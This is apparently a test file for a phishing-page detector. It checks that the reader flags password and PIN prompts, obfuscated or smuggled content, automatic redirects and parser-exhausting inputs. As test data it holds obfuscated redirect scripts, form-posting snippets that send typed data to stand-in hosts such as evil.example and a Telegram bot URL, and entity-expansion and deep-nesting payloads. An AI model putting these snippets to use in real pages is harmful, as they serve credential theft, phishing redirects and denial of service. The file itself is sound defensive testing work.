import { readdirSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { findInFile, findOf } from '../../../testkit/src/find.ts'
import { mutated } from '../../../testkit/src/mutated.ts'
import { createReaders } from '../host/node.ts'
import { nothingRead } from '../reader.ts'
import { about } from './about.ts'
import { read } from './read.ts'

const samples = new URL('../../samples/web-page/', import.meta.url)
const names = readdirSync(samples).filter((name) => !name.startsWith('make'))
const readers = createReaders()
/** A machine that runs other tests beside has its own pace. */
const patient = createReaders({ abouts: [{ ...about, limits: { ...about.limits, milliseconds: 50_000 } }] })
const inHost = (name: string) => readers.read('web-page', findInFile(new URL(name, samples)))
const here = (source: string, name = 'a.html') =>
  Promise.resolve(
    read(findOf(new TextEncoder().encode(source), name), { file: () => Promise.reject(new Error('none')), progress: () => {} }),
  )
const script = (source: string) => here(`<html><body><script>${source}</script></body></html>`)

const traits = async (name: string) => (await inHost(name)).traits.map(({ id, detail }) => `${id} ${detail}`.trim())
const hrefs = async (name: string) => (await inHost(name)).links.map(({ href }) => href)

describe('a page that asks for secrets', () => {
  it('names each that it asks for, whatever its fields are called', async () => {
    expect(await traits('sign-in-prefilled.html')).toEqual(['asks-secret password'])
    expect(await traits('bank.sjis.html')).toEqual(['asks-secret password', 'asks-secret pin', 'asks-secret card', 'asks-secret code'])
    expect(await traits('foreign-object.svg')).toEqual(['asks-secret password'])
  })

  it('gives its source, decoded, for the engine to read', async () => {
    const { texts } = await inHost('bank.sjis.html')
    expect(texts.map(({ format }) => format)).toEqual(['html'])
    expect(texts[0]?.text).toContain('第三者による不正利用の可能性')
  })

  it('sends what is typed where its script says', async () => {
    expect(await hrefs('telegram.html')).toEqual([
      'https://api.telegram.org/bot1234567:EXAMPLE-not-a-token/sendMessage',
      'https://hooks.example/collect',
    ])
    expect(
      (await script(`let u = "https://evil.example/post.php"; $.ajax({ url: u, type: 'POST' })`)).links.map(({ href }) => href),
    ).toEqual(['https://evil.example/post.php'])
  })
})

describe('a page that hides what it is', () => {
  it.each(['write-atob.html', 'write-unescape.html', 'char-codes.html', 'blob-page.html', 'data-frame.html'])(
    '%s: what it hides is read too',
    async (name) => {
      const { texts } = await inHost(name)
      expect(texts[1]?.format).toBe('html')
      expect(texts[1]?.text).toContain('https://collect.example/next.php')
      expect(await traits(name)).toContain('asks-secret password')
      expect((await traits(name)).some((trait) => trait.startsWith('hides-page'))).toBe(true)
    },
  )

  it('is named also where only running it would show the rest', async () => {
    expect(await traits('xor-loop.html')).toEqual(['hides-page decoder'])
    expect(await traits('obfuscated.html')).toEqual(['hides-page obfuscated'])
    expect(await traits('remote-script.html')).toEqual(['hides-page remote-script'])
    expect(await hrefs('remote-script.html')).toEqual(['https://cdn.evil.example/app.js'])
  })

  it('gives up the file that its script would save', async () => {
    const { files } = await inHost('smuggled-file.html')
    expect(files.map(({ bytes }) => [...bytes.subarray(0, 3)])).toEqual([[0x1f, 0x8b, 8]])
    expect(await traits('smuggled-file.html')).toContain('hides-page file')
  })
})

describe('a page that leaves at once', () => {
  it.each([
    ['refresh.html', 'https://evil.example/r?u=1'],
    ['reversed-address.html', 'https://evil.example/m365/'],
    ['joined-address.html', 'https://evil.example/login?e=taro@example.com'],
    ['script.svg', 'https://evil.example/svg?e=taro@example.com'],
    ['obfuscated-light.html', 'https://evil.example/light'],
  ])('%s: to %s', async (name, target) => {
    expect(await traits(name)).toContain(`redirects ${target}`)
    if (name !== 'refresh.html') expect(await hrefs(name)).toEqual([target])
  })

  it.each([
    `window.onload = function () { window.location = 'https://evil.example/a' }`,
    `const go = () => location.assign(\`https://evil.example/\${navigator.language}\`); setTimeout(go, 1)`,
    `document.addEventListener('DOMContentLoaded', () => { top.location.href = ['https:/', 'evil.example', 'a'].join('/') })`,
    `(function(){ var h = '\\x68\\x74\\x74\\x70\\x73:'; h += '//evil.example/'; self['location']['replace'](h) })()`,
    `eval(atob('${btoa("location.href='https://evil.example/inner'")}'))`,
    `location = 'https://evil#.example/a'.replace(/#/g, '')`,
  ])('%s', async (source) => {
    const { traits: found, links } = await script(source)
    expect(found.map(({ id }) => id)).toContain('redirects')
    expect(links.some(({ href }) => href.startsWith('https://evil.example/'))).toBe(true)
  })

  it('not when a press or a check of its own frame makes it go', async () => {
    expect((await script(`if (top !== self) top.location = self.location`)).traits).toEqual([])
    expect((await script(`function out() { location.href = 'https://a.example/out' } b.onclick = out`)).traits).toEqual([])
    expect((await here('<noscript><meta http-equiv="refresh" content="0;url=https://a.example/n"></noscript>')).traits).toEqual([])
  })
})

describe('a picture with a page in it', () => {
  it('is a page when it has a script, and its links are the engine’s to read', async () => {
    expect((await inHost('link.svg')).texts[0]?.text).toContain('xlink:href="https://evil.example/svg"')
  })
  it('as XML may hide behind a tag that closes itself, or a name', async () => {
    expect((await inHost('self-closing.xhtml')).texts[0]?.text).toContain(
      '<script src="x.js"></script></head><body><p><a href="https://evil.example/entity">',
    )
  })
  it('hands on the pictures written into it', async () => {
    expect((await inHost('qr-picture.html')).files.map(({ type, inline, bytes }) => [type, inline, bytes[1]])).toEqual([
      ['image/png', true, 0x50],
    ])
  })
})

describe('an honest page', () => {
  it('raises nothing', async () => {
    for (const name of ['ok.receipt.html', 'ok.newsletter.html'])
      expect(await inHost(name)).toMatchObject({ traits: [], links: [], gaps: [] })
  })
  it('that a browser saved says only that it has a password field', async () => {
    expect(await traits('ok.saved-sign-in.html')).toEqual(['asks-secret password'])
  })
})

describe('a hostile page', () => {
  it.each([
    ['deep', '<div>'.repeat(50_000)],
    ['misnested', '<a><div>'.repeat(20_000)],
    ['attributes', `<p ${Array.from({ length: 20_000 }, (_, at) => `a${at}=1`).join(' ')}>`],
    ['sum', `<script>x=${"'a'+b+".repeat(20_000)}''</script>`],
    ['long sum', `<script>x=${"'a'+".repeat(3_000)}b</script>`],
    ['brackets', `<script>${'['.repeat(100_000)}</script>`],
    ['quotes', `<script>${'"\\'.repeat(200_000)}</script>`],
    [
      'doubling',
      `<script>var a0='xxxxxxxxxx';${Array.from({ length: 60 }, (_, at) => `var a${at + 1}=a${at}+a${at};`).join('')}f(a60)</script>`,
    ],
    ['own value', '<script>var a=b,b=a;location=a;a+=a;location=a+b</script>'],
    ['data in data', `<a href="data:text/html,${encodeURIComponent('<a href="data:text/html,').repeat(2_000)}">`],
    ['entities', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'b'.repeat(2_000)}">]><svg>${'&a;'.repeat(100_000)}</svg>`],
    ['opening', '<script'.repeat(100_000)],
    ['many children', '<br>'.repeat(150_000)],
    ['many statements', `<script>${'a();'.repeat(130_000)}</script>`],
    ['many codes', `<script>f(...[${'104,'.repeat(150_000)}1])</script>`],
    ['white space', `<meta http-equiv=refresh content='${' '.repeat(200_000)}""'>`],
    ['labels', '<label for=a><b><i><u>'.repeat(30_000)],
  ])('%s: ends, within the memory that it may have', async (_, source) => {
    const { gaps } = await patient.read('web-page', findOf(new TextEncoder().encode(source), 'a.html'))
    expect(gaps.map(({ id }) => id)).not.toContain('reader-stopped')
  })

  it('that is cut says so', async () => {
    expect((await here('<div>'.repeat(50_000))).gaps).toContainEqual({ id: 'html-cut', detail: '2' })
  })

  it('damaged at random is still read, or said not to be', async () => {
    for (const find of mutated(
      names.map((name) => findInFile(new URL(name, samples))),
      150,
    )) {
      const reading = await Promise.resolve(read(find, { file: () => Promise.reject(new Error('none')), progress: () => {} }))
      expect(Object.keys(reading)).toEqual(Object.keys(nothingRead('')))
    }
  })
})
